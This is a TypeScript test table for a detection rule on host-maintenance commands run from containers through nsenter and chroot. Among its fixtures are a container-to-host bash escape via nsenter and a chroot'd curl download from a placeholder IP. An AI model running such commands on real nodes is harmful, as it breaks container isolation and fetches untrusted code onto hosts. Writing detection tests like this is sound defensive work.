import { blank, indicatorTable, runs, script, scriptOn, UNSEEN } from '../testing.ts';
import { commandHostMaintenance } from './host-maintenance.ts';

indicatorTable(commandHostMaintenance, {
  fires: {
    'a kernel setting': runs('nsenter', '-t', '1', '-m', '--', 'sysctl', '-w', 'vm.max_map_count=262144'),
    'a restart of a service': scriptOn('/', "chroot /host sh -c 'systemctl restart containerd'"),
    'a backup script of the node': scriptOn('/', 'chroot /host /usr/local/bin/cluster-backup.sh /home/core/backup'),
  },
  staysSilent: {
    'a shell on the node': runs('nsenter', '-t', '1', '-m', '--', 'bash'),
    'a download on the node': scriptOn('/', "chroot /host sh -c 'curl -O http://203.0.113.7/a'"),
    'the same command in the container': script('sysctl -w vm.max_map_count=262144'),
    'no command set': blank,
  },
  cannotTell: UNSEEN,
});
